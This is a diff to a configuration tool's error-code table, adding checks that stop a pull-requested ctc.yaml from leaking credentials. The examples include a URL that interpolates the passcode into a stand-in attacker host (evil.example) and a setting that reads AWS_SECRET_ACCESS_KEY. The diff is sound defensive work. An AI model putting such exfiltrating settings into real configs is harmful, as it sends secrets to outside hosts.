@@ -37,8 +37,9 @@ CODES: tuple[Code, ...] = (
         code="CTC804",
         severity=Severity.ERROR,
         title="a setting cannot be resolved from the process environment",
-        what="account_id, passcode, state, api or region names an environment variable that is not set.",
-        why="Credentials come from the process environment alone; no option takes one.",
+        what="account_id, passcode, state, api or region names an environment variable that is not set, or is empty.",
+        why="Credentials come from the process environment alone; no option takes one. No default stands in for what "
+        "somebody wrote: with an empty state everything would be sent again, and with an empty api to another host.",
         bad="ctc apply --env production",
         good="CLEVERTAP_ACCOUNT_ID=… CLEVERTAP_PASSCODE=… ctc apply --env production",
     ),
@@ -56,12 +57,60 @@ CODES: tuple[Code, ...] = (
         severity=Severity.ERROR,
         title="an environment's address or time zone cannot be used",
         what="The region or the time zone is unknown, or api is not an https:// address (http:// only for this machine "
-        "itself).",
+        "itself) that is a host and nothing else: no user, no query, no fragment.",
         why="Credentials sent in the clear, or to another region's host, are credentials lost; and in an unknown time "
         "zone nobody can tell when a campaign goes out.",
         bad="region: india",
         good="region: in1",
         source="[seed], [api] (a)",
+    ),
+    Code(
+        code="CTC807",
+        severity=Severity.ERROR,
+        title="a setting computes something",
+        what="account_id, passcode, state, api or region is neither a literal nor exactly one `{{ env.NAME }}`.",
+        why="ctc.yaml comes with a pull request. A slice of a secret, or one in other letters, is masked by no "
+        "pipeline, and `https://evil.example/{{ env.CLEVERTAP_PASSCODE }}` would send it away.",
+        bad='api: "https://{{ env.CTC_HOST }}/"',
+        good='api: "{{ env.CTC_API }}"',
+    ),
+    Code(
+        code="CTC808",
+        severity=Severity.ERROR,
+        title="a setting names a variable that it must not read",
+        what="`{{ env.NAME }}` reads variables that begin with CLEVERTAP_ or CTC_, and those that CTC_ALLOWED_ENV of "
+        "the process lists. account_id, api and region, which plans show, read none whose name is a secret's.",
+        why="ctc.yaml comes with a pull request, and the process holds secrets that are none of ctc's.",
+        bad='account_id: "{{ env.AWS_SECRET_ACCESS_KEY }}"',
+        good='account_id: "{{ env.CLEVERTAP_ACCOUNT_ID }}"',
+    ),
+    Code(
+        code="CTC809",
+        severity=Severity.ERROR,
+        title="a host that nobody allowed",
+        what="`api`, or a `state` that is written in ctc.yaml itself, names a host that is neither CleverTap's nor "
+        "this machine, and that CTC_ALLOWED_HOSTS of the process does not list.",
+        why="ctc.yaml comes with a pull request, so it does not choose where a credential goes.",
+        bad="api: https://collect.example",
+        good="region: in1",
+    ),
+    Code(
+        code="CTC810",
+        severity=Severity.ERROR,
+        title="what account_id holds is no account id",
+        what="account_id holds something else than letters, digits, dashes and underscores, or the passcode.",
+        why="Plans and states name the account id, so another secret in its place would be published with them.",
+        bad='account_id: "{{ env.CTC_STATE_URL }}"',
+        good='account_id: "{{ env.CLEVERTAP_ACCOUNT_ID }}"',
+    ),
+    Code(
+        code="CTC811",
+        severity=Severity.ERROR,
+        title="the state's URL in ctc.yaml says what does not belong there",
+        what="A postgresql:// URL that is written in ctc.yaml itself holds a password, or names files of the machine.",
+        why="Everybody who can read the repository reads it, and a file that it names would go to the host it names.",
+        bad="state: postgresql://ctc:secret@db.acme.example/ctc",
+        good='state: "{{ env.CTC_STATE }}"',
     ),
     Code(
         code="CTC850",
